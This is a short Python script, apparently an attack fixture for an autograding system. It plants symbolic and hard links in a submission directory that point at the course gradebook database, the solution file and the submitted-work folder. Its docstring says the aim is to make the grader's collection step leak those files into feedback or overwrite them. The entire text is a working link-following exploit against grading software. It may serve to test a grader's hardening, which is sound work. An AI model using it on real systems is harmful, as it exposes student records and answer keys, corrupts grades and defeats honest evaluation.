"""Make links in the working directory, so that whoever collects it follows them outside.

Gain: files of the grader's end up in the feedback, or are overwritten.
"""

# %%
import os
from pathlib import Path

Path("toy.html").symlink_to("@COURSE@/gradebook.db")
Path("toy.ipynb.bak").symlink_to("@COURSE@/solutions/toy/toy.py")
Path("feedback").symlink_to("@COURSE@/submitted")
try:
    os.link("@COURSE@/gradebook.db", "hard")
    Path("toy.ipynb").unlink(missing_ok=True)
    Path("toy.ipynb").symlink_to("@COURSE@/solutions/toy/toy.py")
except OSError as error:
    print(error)
